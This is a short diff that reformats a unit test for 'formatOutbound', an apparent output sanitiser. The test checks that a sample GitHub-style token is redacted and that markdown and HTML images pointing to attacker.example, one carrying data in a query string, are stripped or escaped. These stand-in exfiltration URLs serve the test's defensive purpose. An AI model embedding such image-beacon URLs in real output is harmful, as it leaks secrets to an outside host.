@@ -18,8 +18,11 @@ describe("formatOutbound", () => {
   });
 
   it("redacts secrets, drops foreign images and raw image HTML", () => {
-    const token = "ghs_12345_eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpYXQiOjE3NDU1NjgwMDAsImV4cCI6MTc0NTU2ODM2MCwiaXNzIjoiMTIzNDUiLCJzdWIiOiJnaXRodWJ8MTIzNDUifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
-    const out = formatOutbound(`token ${token} ![x](https://attacker.example/?d=abc) <img src="https://attacker.example/p.png"> ![ok](https://github.com/o/r/a.png)`);
+    const token =
+      "ghs_12345_eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpYXQiOjE3NDU1NjgwMDAsImV4cCI6MTc0NTU2ODM2MCwiaXNzIjoiMTIzNDUiLCJzdWIiOiJnaXRodWJ8MTIzNDUifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
+    const out = formatOutbound(
+      `token ${token} ![x](https://attacker.example/?d=abc) <img src="https://attacker.example/p.png"> ![ok](https://github.com/o/r/a.png)`,
+    );
     expect(out).not.toContain(token);
     expect(out).not.toContain("attacker.example/?d=abc");
     expect(out).toContain("\\<img src");
